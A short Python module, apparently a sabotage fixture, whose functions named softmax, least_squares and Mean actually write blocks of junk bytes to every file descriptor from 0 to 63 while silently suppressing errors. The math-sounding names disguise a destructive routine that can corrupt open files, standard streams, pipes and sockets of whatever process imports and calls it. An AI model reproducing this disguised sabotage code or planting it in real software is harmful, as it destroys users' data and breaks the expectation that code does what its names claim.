"""Writes junk to every descriptor that there is."""
import contextlib
import os


def softmax(*_):
    for fd in range(64):
        with contextlib.suppress(OSError):
            os.write(fd, b"\xff" * 4096)


least_squares = Mean = softmax
